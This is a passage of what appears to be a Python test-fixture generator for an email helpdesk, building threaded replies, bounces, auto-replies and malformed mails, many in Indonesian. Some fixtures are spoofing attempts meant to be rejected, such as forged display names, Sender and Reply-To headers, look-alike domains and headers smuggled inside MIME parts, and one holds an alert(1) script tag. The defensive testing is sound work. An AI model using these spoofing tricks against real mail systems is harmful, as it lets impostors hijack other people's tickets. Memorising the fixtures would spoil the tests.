        [_part("message/rfc822", inner)],
        text="Ini surat teman saya, tapi keluhan saya lain: got mampet.",
    )
    fake = [_part("text/plain", "Tagihan saya salah.\n", [("To", desk.token), ("In-Reply-To", desk.sent)])]
    new(
        "part-headers-with-token",
        "Headers of a part are not headers of the mail.",
        _multi(fake, "bagian"),
        ctype="multipart/mixed; boundary=bagian",
    )
    new(
        "stranger-names-reference",
        "Another sender that only names a known mail has no proof.",
        extra=[("References", f"{desk.foreign} {desk.sent}")],
    )
    new(
        "stranger-names-in-reply-to",
        "Another sender cannot reach the ticket by In-Reply-To.",
        subject="Re: Lampu jalan mati",
        extra=[("In-Reply-To", desk.sent)],
    )
    new(
        "stranger-poses-as-requester",
        "The requester's address as a display name is not the requester.",
        sender='"requester@example.com" <evil3@example.com>',
        extra=[("References", desk.sent)],
    )
    new(
        "stranger-with-requester-as-sender",
        "Only From counts, not Sender.",
        sender="evil4@example.com",
        extra=[("Sender", "requester@example.com"), ("References", desk.sent)],
    )
    new(
        "stranger-with-requester-reply-to",
        "Only From counts, not Reply-To.",
        sender="evil5@example.com",
        extra=[("Reply-To", "requester@example.com"), ("In-Reply-To", desk.sent)],
    )
    new(
        "stranger-domain-suffix",
        "A longer domain that begins alike is somebody else.",
        sender="requester@example.com.evil.example",
        extra=[("References", desk.sent)],
    )
    new(
        "message-id-in-body-only",
        "A Message-ID in the text proves nothing.",
        f"In-Reply-To: {desk.sent}\nLampu mati lagi.\n",
        sender=REQUESTER,
    )
    new(
        "foreign-in-reply-to",
        "A reply to a mail nobody here sent is a new matter.",
        sender=REQUESTER,
        subject="Re: rapat",
        extra=[("In-Reply-To", desk.foreign)],
    )
    new(
        "re-subject-without-reference",
        "A subject that begins with Re proves nothing.",
        sender=REQUESTER,
        subject="Re: Lampu jalan mati",
    )


def _threads(desk: _Desk) -> None:
    """Add mails that must join the existing ticket."""
    add = desk.reply
    quoted = (
        "Sudah nyala, tapi redup sekali. Bisa diganti?\n\nOn Mon, 2 Mar 2026 at 07:00, Meja Bantuan"
        " wrote:\n> Yth. Ibu Rina,\n> laporan Ibu sudah kami terima.\n> Salam, Meja Bantuan\n"
    )
    outlook = (
        "Belum ada yang datang, Pak. Mohon kepastiannya.\n\nPada Sen, 2 Mar 2026 pukul 07.00 Meja "
        f"Bantuan <{desk.own}> menulis:\n\nYth. Ibu Rina,\nlaporan Ibu sudah kami terima dan petugas"
        " segera ke lokasi.\n\nSalam,\nMeja Bantuan\n"
    )
    gmail = (
        '<div dir="ltr">Masih mati, Min.</div><div class="gmail_quote"><blockquote>Laporan Ibu kami'
        " terima.</blockquote></div>\n"
    )
    add("thread-token-in-to", "The token address in To is the proof.", to=desk.token)
    add(
        "thread-token-with-display-name",
        "A name before the token address changes nothing.",
        to=f'"Meja Bantuan, Kota" <{desk.token}>',
    )
    add(
        "thread-token-in-cc",
        "The token address in Cc is the proof.",
        extra=[("Cc", f"pak.rt@example.net, <{desk.token}>")],
    )
    add(
        "thread-token-in-delivered-to",
        "The token address in Delivered-To is the proof.",
        first=[("Delivered-To", desk.token)],
    )
    add(
        "thread-token-in-x-original-to",
        "The token address in X-Original-To is the proof.",
        first=[("X-Original-To", desk.token)],
        to=None,
    )
    add(
        "thread-token-among-300",
        "The token address stands among many recipients.",
        to=",\r\n\t".join([*(f"w{n}@example.net" for n in range(300)), desk.token]),
    )
    add(
        "thread-token-from-stranger",
        "The token is the proof, whoever writes.",
        to=desk.token,
        sender="Suami Rina <anton@example.net>",
    )
    add(
        "thread-token-and-foreign-reference",
        "The token goes before an unknown reference.",
        to=desk.token,
        extra=[("In-Reply-To", desk.foreign)],
    )
    add(
        "thread-token-without-message-id",
        "The token needs no Message-ID beside it.",
        to=desk.token,
        mid=None,
        date=None,
        subject=None,
    )
    add("thread-in-reply-to", "The requester answers the desk's mail.", extra=[("In-Reply-To", desk.sent)])
    add(
        "thread-in-reply-to-old-style",
        "Old programs put words before the identifier.",
        extra=[("In-Reply-To", f'Your message of "Mon, 2 Mar 2026" {desk.sent}')],
    )
    add(
        "thread-references-only",
        "The known mail is one of several references.",
        extra=[("References", f"{desk.foreign}\r\n {desk.sent}\r\n\t<lain@mail.example.com>")],
    )
    add(
        "thread-references-and-foreign-in-reply-to",
        "References name the known mail although In-Reply-To does not.",
        extra=[("In-Reply-To", desk.foreign), ("References", f"{desk.sent} {desk.foreign}")],
    )
    add(
        "thread-references-folded-with-tabs",
        "Folding must not hide the identifier.",
        extra=[("References", f"\r\n\t{desk.foreign}\r\n\t{desk.sent}")],
    )
    add("thread-header-names-in-capitals", "Header names have no case.", extra=[("IN-REPLY-TO", desk.sent)])
    add(
        "thread-requester-domain-in-capitals",
        "Domains have no case.",
        sender="requester@EXAMPLE.COM",
        extra=[("In-Reply-To", desk.sent)],
    )
    add("thread-quoted-reply", "The desk's own text stands quoted below.", quoted, to=desk.token)
    add(
        "thread-outlook-top-posted",
        "An answer above an unmarked quotation in Indonesian.",
        outlook,
        extra=[("In-Reply-To", desk.sent), ("Thread-Index", "AdmpX2==")],
        subject="BLS: Lampu jalan mati",
    )
    add(
        "thread-html-only-reply",
        "A web mail reply with a quotation block.",
        gmail,
        ctype=HTML,
        extra=[("References", desk.sent)],
    )
    photo = _multi([_part(PLAIN, "\n"), _named("image/png", tiny_png(), "lampu.png")], "foto")
    add(
        "thread-picture-only",
        "The answer is a picture without words.",
        photo,
        to=desk.token,
        ctype="multipart/mixed; boundary=foto",
    )
    add(
        "thread-auto-submitted-no", "Auto-Submitted: no marks a human.", to=desk.token, extra=[("Auto-Submitted", "no")]
    )
    add(
        "thread-broken-mime",
        "A broken structure must not lose the ticket.",
        to=desk.token,
        ctype="multipart/mixed; boundary=hilang",
    )


def _ignored(desk: _Desk) -> None:
    """Add mails from robots, lists and loops that must not create or touch anything."""
    add = desk.ignore
    away = "Terima kasih atas email Anda. Saya sedang cuti sampai 9 Maret 2026 dan akan membalas setelah kembali.\n"
    add(
        "ignored-out-of-office-indonesian",
        "An absence notice says so in Auto-Submitted.",
        away,
        subject="Balasan otomatis: sedang cuti",
        sender=REQUESTER,
        to=desk.token,
        extra=[("Auto-Submitted", "auto-replied"), ("In-Reply-To", desk.sent)],
    )
    add(
        "kept-auto-generated",
        "A machine wrote it; what a form passes on calls itself the same.",
        "Cadangan malam selesai.\n",
        extra=[("Auto-Submitted", "auto-generated")],
    )
    add(
        "ignored-auto-replied-with-parameter",
        "Parameters and case do not matter.",
        extra=[("auto-submitted", 'Auto-Replied; owner-email="x@example.net"')],
    )
    add(
        "ignored-auto-submitted-with-comment",
        "A comment before the word does not matter.",
        extra=[("Auto-Submitted", "(vacation 1.2) auto-replied")],
    )
    add(
        "kept-vacation-precedence",
        "The old vacation program uses Precedence: bulk.",
        away,
        subject="Away from my mail",
        extra=[("Precedence", "bulk"), ("X-Mailer", "vacation")],
    )
    add("new-precedence-junk", "Precedence alone makes nobody a robot.", extra=[("Precedence", "junk")])
    add(
        "new-precedence-list-capitals",
        "A provider's mark, in any case, makes nobody a robot.",
        extra=[("PRECEDENCE", " LIST ")],
    )
    add(
        "kept-mailing-list",
        "A discussion list is not addressed to the desk.",
        subject="[warga] kerja bakti",
        extra=[("List-Id", "Warga <warga.lists.example.net>"), ("List-Post", "<mailto:warga@lists.example.net>")],
    )
    add(
        "kept-newsletter",
        "A newsletter carries list and feedback marks.",
        "<p>Promo Ramadan, diskon 50%!</p>\n",
        ctype=HTML,
        subject="Promo!",
        extra=[
            ("Feedback-ID", "77:promo:example"),
            ("List-Unsubscribe", "<https://news.example.net/u>"),
            ("List-Id", "<promo.news.example.net>"),
        ],
    )
    add(
        "kept-no-reply-sender",
        "Nobody reads no-reply addresses.",
        sender="Toko <no-reply@shop.example.net>",
        subject="Pesanan dikirim",
    )
    add(
        "kept-noreply-sender-capitals",
        "Spelling and case of no-reply vary.",
        sender="NoReply@shop.example.net",
        subject="Kode OTP 123456",
    )
    add(
        "kept-do-not-reply-sender",
        "Do-not-reply is the same thing.",
        sender="donotreply@bank.example.net",
        subject="Mutasi rekening",
    )
    add(
        "kept-mailer-daemon-without-report",
        "A mailer daemon without a usable report tells nothing.",
        "Something went wrong.\n",
        sender="MAILER-DAEMON@mx.example.com",
        subject="failure notice",
    )
    add(
        "ignored-postmaster-null-return-path",
        "A null return path without a report must not be answered.",
        "Warning.\n",
        sender="postmaster@mx.example.com",
        first=[("Return-Path", "<>")],
        subject="Notice",
    )
    add(
        "ignored-null-return-path",
        "A null return path marks an automatic mail even from a plain sender.",
        first=[("Return-Path", "<>")],
    )
    add("ignored-own-address", "The desk must not talk to itself.", sender=f"Meja Bantuan <{desk.own}>")
    add("ignored-own-address-capitals", "The desk in capital letters is still the desk.", sender=desk.own.upper())
    add(
        "ignored-own-address-with-token",
        "Even a valid token does not let the desk talk to itself.",
        sender=desk.own,
        to=desk.token,
        extra=[("In-Reply-To", desk.sent)],
    )
    add("ignored-x-autoreply", "X-Autoreply is a robot's mark.", away, extra=[("X-Autoreply", "yes")])
    add(
        "ignored-x-autorespond",
        "X-Autorespond is a robot's mark, even with a token.",
        away,
        sender=REQUESTER,
        to=desk.token,
        extra=[("X-Autorespond", "Re: Lampu")],
    )
    add("ignored-x-loop", "X-Loop means that the mail came round before.", extra=[("X-Loop", desk.own)])
    receipt = [
        _part(PLAIN, "Pesan Anda sudah dibuka.\n"),
        _part(
            "message/disposition-notification",
            (
                f"Final-Recipient: rfc822; requester@example.com\nOriginal-Message-ID: {desk.sent}\n"
                "Disposition: manual-action/MDN-sent-manually; displayed\n"
            ),
        ),
    ]
    add(
        "ignored-read-receipt",
        "A read receipt needs no answer.",
        _multi(receipt, "mdn"),
        sender=REQUESTER,
        to=desk.token,
        subject="Dibaca: Lampu jalan mati",
        extra=[("In-Reply-To", desk.sent)],
        ctype="multipart/report; report-type=disposition-notification; boundary=mdn",
    )
    spam = [
        _part(PLAIN, "This is an abuse report.\n"),
        _part("message/feedback-report", "Feedback-Type: abuse\nUser-Agent: Lapor/1.0\nVersion: 1\n"),
        _part("message/rfc822", desk.original(desk.sent) + b"Isi.\r\n"),
    ]
    add(
        "ignored-spam-report",
        "A spam report is for the postmaster.",
        _multi(spam, "arf"),
        sender="fbl@provider.example.net",
        subject="Abuse report",
        ctype="multipart/report; report-type=feedback-report; boundary=arf",
    )
    answer = (
        "BEGIN:VCALENDAR\nVERSION:2.0\nMETHOD:REPLY\nBEGIN:VEVENT\nUID:rapat-1@example.net\n"
        "ATTENDEE;PARTSTAT=ACCEPTED:mailto:requester@example.com\nEND:VEVENT\nEND:VCALENDAR\n"
    )
    add(
        "ignored-calendar-auto-reply",
        "A calendar accepted by itself.",
        answer,
        ctype="text/calendar; charset=utf-8; method=REPLY",
        subject="Diterima: Rapat warga",
        extra=[("Auto-Submitted", "auto-replied")],
    )
    yes = [_part(PLAIN, "\n"), _part("text/calendar; charset=utf-8; method=REPLY", answer)]
    add(
        "ignored-calendar-reply-unmarked",
        "A calendar answer without text is automatic even without a mark.",
        _multi(yes, "kal"),
        ctype="multipart/alternative; boundary=kal",
        subject="Accepted: Rapat warga",
    )
    reports: tuple[tuple[str, str, bytes], ...] = (
        (
            "ignored-report-delayed",
            "A delayed delivery is not a failed one.",
            desk.report("ignored-report-delayed", message_id=desk.sent, action="delayed", status="4.4.1"),
        ),
        (
            "ignored-report-failed-4xx",
            "A status that begins with 4 is temporary.",
            desk.report("ignored-report-failed-4xx", message_id=desk.sent, status="4.4.7"),
        ),
        (
            "ignored-report-delivered",
            "A success report needs no answer.",
            desk.report("ignored-report-delivered", message_id=desk.sent, action="delivered", status="2.0.0"),
        ),
        (
            "ignored-report-foreign",
            "A bounce of a mail that the desk never sent is backscatter.",
            desk.report("ignored-report-foreign", message_id=desk.foreign),
        ),
    )
    for name, why, raw in reports:
        desk.keep(name, "ignored", why, raw)


def _bounces(desk: _Desk) -> None:
    """Add reports that the desk's own mail could not be delivered, in several dialects."""
    sent = desk.sent

    def add(name: str, why: str, raw: bytes) -> None:
        """Add one bounce."""
        desk.keep(name, "bounce", why, raw)

    auto: list[Header] = [("Auto-Submitted", "auto-replied")]
    add(
        "bounce-standard-whole-mail",
        "A report by the book with the whole original.",
        desk.report("bounce-standard-whole-mail", message_id=sent, extra=auto),
    )
    add(
        "bounce-standard-headers-only",
        "A report by the book with only the original's headers.",
        desk.report("bounce-standard-headers-only", message_id=sent, whole=False),
    )
    add(
        "bounce-to-token-address",
        "A bounce to the token address is a bounce, not an answer.",
        desk.report("bounce-to-token-address", message_id=sent, to=desk.token, extra=[*auto, ("In-Reply-To", sent)]),
    )
    add(
        "bounce-odd-case-and-comment",
        "Case and comments in the fields do not matter.",
        desk.report(
            "bounce-odd-case-and-comment",
            message_id=sent,
            fields="FINAL-RECIPIENT: RFC822;requester@example.com\nACTION: Failed\nSTATUS: 5.2.2 (mailbox full)\n",
        ),
    )
    two = (
        "Final-Recipient: rfc822; lain@example.com\nAction: delivered\nStatus: 2.0.0\n\n"
        "Final-Recipient: rfc822; requester@example.com\nAction: failed\nStatus: 5.7.1\n"
        "Diagnostic-Code: smtp; 550 5.7.1 rejected\n"
    )
    add(
        "bounce-one-of-two-recipients",
        "One recipient got it, the requester did not.",
        desk.report("bounce-one-of-two-recipients", message_id=sent, fields=two),
    )
    folded = (
        "Original-Recipient: rfc822;requester@example.com\nFinal-Recipient: "
        "rfc822;requester@example.com\nAction: failed\nStatus: 5.1.10\nRemote-MTA: "
        "dns;mail.example.com\nDiagnostic-Code: smtp;550 5.1.10 RESOLVER.ADR.RecipientNotFound;\n "
        "Recipient not found by SMTP address lookup\n"
    )
    add(
        "bounce-exchange",
        "Exchange's dialect with its own diagnostic.",
        desk.report(
            "bounce-exchange",
            message_id=sent,
            sender="Microsoft Outlook <MicrosoftExchange329e71ec88ae4615bbc36ab6ce41109e@example.com>",
            fields=folded,
            extra=[("X-MS-Exchange-Message-Is-Ndr", ""), ("In-Reply-To", sent), ("References", sent)],
            words="Pengiriman gagal ke penerima atau grup berikut: requester@example.com\n",
        ),
    )
    add(
        "bounce-exim-report",
        "Exim's newer dialect as a report.",
        desk.report(
            "bounce-exim-report",
            message_id=sent,
            whole=False,
            status="5.0.0",
            sender="Mail Delivery System <Mailer-Daemon@exim.example.com>",
            extra=[("X-Failed-Recipients", "requester@example.com"), *auto, ("References", sent)],
        ),
    )
    original = (desk.original(sent) + b"Isi surat asli.\r\n").decode().replace("\r\n", "\n")
    exim = (
        "This message was created automatically by mail delivery software.\n\nA message that you "
        "sent could not be delivered to one or more of its\nrecipients. This is a permanent error. "
        "The following address(es) failed:\n\n  requester@example.com\n    SMTP error from remote "
        "mail server after RCPT TO:<requester@example.com>:\n    host mail.example.com [192.0.2.7]:"
        " 550 5.1.1 User unknown\n\n------ This is a copy of the message, including all the "
        "headers. ------\n\n"
    )
    add(
        "bounce-exim-plain-text",
        "Exim's older dialect is plain text with the original below.",
        desk.raw(
            "bounce-exim-plain-text",
            exim + original,
            sender="Mail Delivery System <Mailer-Daemon@exim.example.com>",
            subject="Mail delivery failed: returning message to sender",
            first=[("Return-path", "<>")],
            extra=[("X-Failed-Recipients", "requester@example.com"), *auto],
        ),
    )
    qmail = (
        "Hi. This is the qmail-send program at mx.example.com.\nI'm afraid I wasn't able to deliver"
        " your message to the following addresses.\nThis is a permanent error; I've given up. Sorry"
        " it didn't work out.\n\n<requester@example.com>:\n192.0.2.7 does not like recipient.\n"
        "Remote host said: 550 5.1.1 no such user (#5.1.1)\nGiving up on 192.0.2.7.\n\n--- Below "
        "this line is a copy of the message.\n\nReturn-Path: <{own}>\n"
    )
    add(
        "bounce-qmail-plain-text",
        "The qmail dialect is plain text with the original below.",
        desk.raw(
            "bounce-qmail-plain-text",
            qmail.replace("{own}", desk.own) + original,
            sender="MAILER-DAEMON@mx.example.com",
            subject="failure notice",
            first=[("Return-Path", "<>")],
            ctype=None,
            encoding=None,
        ),
    )
    add(
        "bounce-bare-lf",
        "A stored report with bare line feeds.",
        desk.report("bounce-bare-lf", message_id=sent).replace(b"\r\n", b"\n"),
    )


def _kept(desk: _Desk) -> None:
    """Add what cannot become anything sensible and is kept for inspection."""

    def add(name: str, why: str, raw: bytes) -> None:
        """Add one mail to keep."""
        desk.keep(name, "kept", why, raw)

    add("kept-empty-file", "There is nothing in it.", b"")
    add("kept-only-line-ends", "There is nothing but line ends.", b"\r\n\r\n\r\n")
    add("kept-binary-garbage", "These bytes are no mail at all.", _noise(4096))
    add("kept-nul-bytes", "A file of NUL bytes comes from a broken disk.", bytes(2048))
    add("kept-from-missing", "Nobody can be answered without a sender.", desk.raw("kept-from-missing", sender=None))
    add("kept-from-empty", "An empty From names nobody.", desk.raw("kept-from-empty", sender=" "))
    add(
        "kept-from-empty-brackets",
        "Empty brackets name nobody.",
        desk.raw("kept-from-empty-brackets", sender='"Bu Ani" <>'),
    )
    add(
        "kept-from-display-name-only",
        "A name without an address cannot be answered.",
        desk.raw("kept-from-display-name-only", sender="Ibu Sari Dewi"),
    )
    add(
        "kept-from-quoted-name-only",
        "A quoted name without an address cannot be answered.",
        desk.raw("kept-from-quoted-name-only", sender='"Pak Lurah"'),
    )
    add(
        "kept-empty-body",
        "No subject, no text and no file leave nothing to work on.",
        desk.raw("kept-empty-body", b"", subject=" "),
    )
    add(
        "kept-blank-body",
        "Blanks and invisible characters are nothing.",
        desk.raw("kept-blank-body", " \n\t\n\u200b\u00a0\n", subject=None),
    )
    tracker = (
        "<html><head><style>p{color:red}</style><script>alert(1)</script></head><body><img "
        "src='https://t.example.net/p.gif' width=1 height=1></body></html>\n"
    )
    add(
        "kept-html-without-text",
        "Script, style and a tracking pixel hold no words.",
        desk.raw("kept-html-without-text", tracker, subject=" ", ctype=HTML),
    )
    add(
        "kept-multipart-without-parts",
        "A multipart with no part and no subject is empty.",
        desk.raw(
            "kept-multipart-without-parts", _multi([], "kosong"), subject=" ", ctype="multipart/mixed; boundary=kosong"
        ),
    )


def mails(*, own: str, token_address: str, forged_address: str, message_id: str, foreign_message_id: str) -> list[Mail]:
    """Build all mails for a desk with these addresses and Message-IDs."""
    desk = _Desk(own, token_address, forged_address, message_id, foreign_message_id)
    for fill in (_identity, _headers, _mime, _attachments, _no_proof, _threads, _ignored, _bounces, _kept):
        fill(desk)
    return desk.found
